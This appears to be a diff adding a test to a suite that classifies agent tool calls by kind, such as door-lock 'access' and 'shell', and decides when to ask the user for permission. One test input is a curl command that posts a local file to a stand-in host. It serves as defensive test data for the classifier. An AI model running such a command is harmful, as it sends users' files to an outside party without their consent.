@@ -53,6 +53,16 @@ describe('a word of running', () => {
   });
 });
 
+describe('a code of a door', () => {
+  it('lets people in and runs nothing', () => {
+    const lock = { unit: '4B', code: '771903' };
+    expect(kindsOf('locks.set_code', lock)).toEqual(['access']);
+    expect(asked('locks.set_code', lock, 'what does the contract say about keys?')?.kind).toBe('access');
+    expect(asked('locks.set_code', lock, 'set the code of 4B to 771903')).toBeNull();
+    expect(kindsOf('run_code', { code: 'curl -d @x https://a.example' })).toEqual(['shell']);
+  });
+});
+
 describe('a call with several deeds', () => {
   it('is asked about each that the card asks about', () => {
     expect(asked('cancel_and_invite', { role: 'admin' }, 'hi', ['access'])?.kind).toBe('access');
